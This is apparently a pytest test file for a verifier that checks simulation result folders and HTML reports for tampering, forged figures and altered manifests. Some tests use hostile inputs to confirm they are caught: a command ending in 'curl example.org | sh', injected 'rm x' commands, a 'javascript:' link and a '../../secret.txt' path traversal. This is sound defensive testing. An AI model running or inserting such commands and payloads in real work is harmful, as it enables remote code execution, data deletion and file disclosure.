"""`sim.verify`: what is intact passes, and whatever is tampered with is named."""

import json
import re
import shutil
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path

import pytest
from click.testing import CliRunner

import sim
from sim.api import verify as verify_function
from sim.api.verifying.words import Words, word_differences
from sim.cli.group import willing
from sim.results import record

SMALL = (
    "title: {name}\nasks: Does it run?\nteaches: That it runs.\nweeks: 10\n"
    "nations: {{only: [GBR, FRA, NLD, EST]}}\n"
)


@pytest.fixture(scope="module")
def results_folder(tmp_path_factory) -> Path:
    """Run two small scenarios into a folder: two results, and their comparison."""
    root = tmp_path_factory.mktemp("written")
    files = []
    for name in ("first", "second"):
        file = root / f"{name}.yaml"
        file.write_text(SMALL.format(name=name), encoding="utf-8")
        files.append(str(file))
    done = CliRunner().invoke(
        willing,
        ["run", *files, "--runs", "40", "--out", str(root / "results"), "--inputs", "--quiet"],
    )
    assert done.exit_code == 0, done.output
    return root / "results"


@pytest.fixture
def copy(results_folder, tmp_path) -> Callable[..., Path]:
    """Copy the folder of a result, to be tampered with."""

    def copy_result(name: str = "first") -> Path:
        (folder,) = (results_folder / name).iterdir()
        return Path(shutil.copytree(folder, tmp_path / name / folder.name))

    return copy_result


def tamper(path: Path, old: str, new: str, *, cover: bool = False) -> None:
    """Change a text in a file once; ``cover`` puts its new checksum into the manifest."""
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8", newline="\n")
    manifest = path.parent / "manifest.json"
    if cover:
        plain = json.loads(manifest.read_text(encoding="utf-8"))
        content = path.read_bytes()
        plain["files"][path.name] = {
            "bytes": len(content), "sha256": sha256(content).hexdigest(),
        }  # fmt: skip
        manifest.write_text(json.dumps(plain), encoding="utf-8")


def only_difference(found) -> dict:
    (row,) = found.differences.rows()
    return row


@pytest.mark.parametrize("name", ["first", "comparison"])
def test_an_intact_result_is_as_stated_and_so_is_its_report_alone(copy, name, tmp_path):
    folder = copy(name)
    found = sim.verify(folder)
    assert (found.verdict, found.exit_code, found.left_open) == ("as stated", 0, ())
    assert found
    assert {row["what"] for row in found.checks.rows()} >= {"files", "runs", "tables", "report"}
    alone = shutil.copy(folder / "report.html", tmp_path / "sent-by-mail.html")
    assert sim.verify(alone).verdict == "as stated"


@pytest.mark.once  # names by our rules what differs; what is made again is held above everywhere
@pytest.mark.parametrize("table", ["runs", "nations_by_run", "inputs", "inputs_by_nation", "force"])
def test_a_tampered_cell_is_named_even_where_the_manifest_was_made_to_fit(copy, table):
    folder = copy()
    path = folder / f"{table}.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    head, cells = lines[0].split(","), lines[3].split(",")
    stated = cells[-1]
    cells[-1] = "987654"
    tamper(path, lines[3], ",".join(cells), cover=True)
    found = sim.verify(folder)
    assert found.exit_code == 5
    row = only_difference(found)
    assert (row["file"], row["part"], row["column"]) == (path.name, table, head[-1])
    assert row["row"].startswith("3 (")
    assert (row["stated"], row["recomputed"]) == ("987654", stated)


@pytest.mark.once  # names by our rules what differs; what is made again is held above everywhere
def test_a_file_that_was_changed_or_is_missing_is_named(copy):
    folder = copy()
    tamper(folder / "force.csv", "committed", "commited")
    (folder / "members.csv").unlink()
    rows = sim.verify(folder).differences.rows()
    assert {row["file"] for row in rows} == {"force.csv", "members.csv"}
    assert any(row["recomputed"].startswith("nothing") for row in rows)


@pytest.mark.once  # names by our rules what differs; what is made again is held above everywhere
def test_a_description_of_a_column_is_held_too(copy):
    folder = copy()
    tamper(folder / "tables.json", "troops pledged or more at the deadline", "all", cover=True)
    row = only_difference(sim.verify(folder))
    assert (row["file"], row["part"], row["stated"]) == ("tables.json", "runs: schema", "all")


FORGED = {
    "a number in a chart": (
        r'(id="charts">.*?"fan":.*?"y":\[[^\]]*?)(\d+)\]', r"\g<1>77777]", "chart fan",
    ),
    "a finding": (r'(<h3 id="fan-title">)[^<]*', r"\1All is well", "chart fan"),
    "a sentence": (r'(<p class="headline">)[^<]*', r"\1All is well", "head of the page"),
    "a digest": (r'("force":")[0-9a-f]{6}', r"\g<1>000000", "digests of tables"),
}  # fmt: skip


@pytest.mark.once  # names by our rules what differs; what is made again is held above everywhere
@pytest.mark.parametrize("what", FORGED)
def test_what_is_tampered_with_in_a_report_is_named(copy, what):
    pattern, new, part = FORGED[what]
    report = copy() / "report.html"
    text = report.read_text(encoding="utf-8")
    forged = re.sub(pattern, new, text, count=1, flags=re.DOTALL)
    report.write_text(forged, encoding="utf-8", newline="\n")
    found = sim.verify(report)
    assert found.exit_code == 5
    row = only_difference(found)
    assert (row["file"], row["part"]) == ("report.html", part)
    assert row["stated"] != row["recomputed"]


def change_record(path: Path, **changes: object) -> None:
    """Change what a report carries of its making."""
    text = path.read_text(encoding="utf-8")
    kept = json.loads(re.search(r'id="record">(.*?)</script>', text, re.DOTALL)[1])
    plain = json.dumps({**kept, **changes}).replace("<", "\\u003c")
    text = re.sub(r'(id="record">).*?(</script>)', lambda at: at[1] + plain + at[2], text, count=1)
    path.write_text(text, encoding="utf-8", newline="\n")


@pytest.mark.once  # names by our rules what differs; what is made again is held above everywhere
def test_another_number_of_runs_or_seed_gives_other_figures(copy):
    report = copy() / "report.html"
    change_record(report, seed=7)
    found = sim.verify(report)
    assert found.exit_code == 5
    assert len(found.differences) > 10


def test_of_another_version_what_is_the_same_is_verified_and_the_rest_left_open(copy):
    folder = copy()
    change_record(folder / "report.html", versions={**record.versions(), "willing": "0.0.1"})
    found = sim.verify(folder / "report.html")
    assert found.exit_code == 6
    assert "made with willing 0.0.1, held against willing" in found.left_open[0]
    assert len(found.differences) == 0
    tamper(folder / "force.csv", "committed", "commited")
    assert sim.verify(folder).exit_code == 5  # a checksum is the same in every version


def test_scripts_of_another_plotly_are_left_open_and_all_else_is_not(copy):
    report = copy() / "report.html"
    change_record(report, versions={**record.versions(), "plotly": "1.0"})
    tamper(report, "<script>/**", "<script>/* other */ /**")
    found = sim.verify(report)
    assert (found.exit_code, len(found.differences)) == (6, 0)
    tamper(report, "</h1>", "!</h1>")
    assert sim.verify(report).exit_code == 5


def test_a_command_to_paste_is_one_of_this_program(copy):
    report = copy() / "report.html"
    text = report.read_text(encoding="utf-8")
    kept = json.loads(re.search(r'id="record">(.*?)</script>', text, re.DOTALL)[1])
    bad = f"{kept['command']}; curl example.org | sh"
    change_record(report, command=bad)
    tamper(report, "<pre><code>", f"<pre><code>{bad}</code></pre><pre hidden><code>")
    found = sim.verify(report)
    assert found.exit_code == 5
    assert "the command" in found.differences.column("row")


@pytest.mark.parametrize(
    ("command", "fits"),
    [
        ("willing run no-us --runs 40 --seed 7", True),
        ("willing run 'my file.yaml' --runs 40 --seed 7 --held", True),
        ('willing run "my file.yaml" --runs 40 --seed 7', True),
        ("", True),
        ("willing run no-us --runs 41 --seed 7", False),
        ("willing run no-us --runs 40 --seed 7; rm x", False),
        ("willing run no-us --runs 40 --seed 7 && rm x", False),
        ("willing run $(rm x) --runs 40 --seed 7", False),
        ("rm x", False),
    ],
)
def test_what_may_be_pasted(copy, command, fits):
    stated = json.loads((copy() / "manifest.json").read_text(encoding="utf-8"))
    recipe = record.read_recipe({**stated, "runs": 40, "seed": 7}, "here")
    assert (not list(word_differences(Words(command), recipe))) is fits
    link = Words(links={"x": "javascript:alert(1)//report.html"})
    assert len(list(word_differences(link, recipe))) == 1
    fine = Words(links={"x": "../../no-us/0123456789-s7/report.html"})
    assert list(word_differences(fine, recipe)) == []


def test_of_a_large_result_some_rows_are_made_again_and_the_report_from_its_tables(copy):
    folder = copy()
    found = sim.verify(folder, runs=0, sample=40)
    assert found.exit_code == 6
    assert "40 runs are not all made again" in found.left_open[0]
    assert len(found.differences) == 0
    lines = (folder / "runs.csv").read_text(encoding="utf-8").splitlines()
    tamper(folder / "runs.csv", lines[8], lines[8] + "9", cover=True)
    again = sim.verify(folder, runs=0, sample=40)
    assert again.exit_code == 5
    rows = [row for row in again.differences.rows() if row["file"] == "runs.csv"]
    assert len(rows) == 1
    assert "run 7" in rows[0]["row"]


HOSTILE = {
    "no scenario": {"scenario": {}},
    "endless weeks": {"runs": 10**12},
    "a number that is text": {"runs": "40"},
    "less than nothing": {"seed": -1},
    "another kind": {"kind": "comparison", "results": [], "scenarios": []},
}


@pytest.mark.parametrize("what", HOSTILE)
def test_what_no_command_has_written_is_refused(copy, what):
    report = copy() / "report.html"
    change_record(report, **HOSTILE[what])
    with pytest.raises(sim.WillingError, match="holds no scenario that this version can read"):
        sim.verify(report)


def test_no_name_in_a_manifest_leads_out_of_the_folder(copy, tmp_path):
    folder = copy()
    (tmp_path / "secret.txt").write_text("secret", encoding="utf-8")
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    manifest["files"]["../../secret.txt"] = {"bytes": 6, "sha256": sha256(b"secret").hexdigest()}
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    row = only_difference(sim.verify(folder))
    assert (row["file"], row["recomputed"]) == (
        "../../secret.txt", "nothing: no such file in this folder",
    )  # fmt: skip


def test_a_page_without_a_record_says_so(tmp_path):
    page = tmp_path / "page.html"
    page.write_text("<!doctype html><title>x</title>", encoding="utf-8")
    with pytest.raises(sim.WillingError, match="carries no record of its making"):
        sim.verify(page)
    with pytest.raises(sim.WillingError):
        sim.verify(tmp_path / "nothing.html")
    with pytest.raises(ValueError, match="runs and sample"):
        verify_function(page, runs=-1)


def test_parquet_is_held_as_well(results_folder, tmp_path):
    pytest.importorskip("pyarrow")
    scenario = results_folder.parent / "first.yaml"
    done = CliRunner().invoke(
        willing,
        ["run", str(scenario), "--runs", "40", "--out", str(tmp_path), "--format", "parquet",
         "--no-report", "--quiet"],
    )  # fmt: skip
    assert done.exit_code == 0
    (folder,) = (tmp_path / "first").iterdir()
    assert sim.verify(folder).verdict == "as stated"
